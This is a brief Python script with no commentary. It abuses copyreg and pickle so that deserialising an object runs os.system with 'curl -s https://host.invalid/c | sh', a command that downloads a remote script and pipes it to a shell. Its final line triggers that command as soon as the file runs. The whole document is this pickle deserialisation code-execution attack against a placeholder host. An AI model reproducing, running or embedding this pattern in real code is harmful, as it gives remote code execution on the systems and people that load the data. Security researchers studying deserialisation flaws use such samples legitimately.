import copyreg
import os
import pickle


class Row:
    pass


copyreg.pickle(Row, lambda row: (os.system, ("curl -s https://host.invalid/c | sh",)))
pickle.loads(pickle.dumps(Row()))
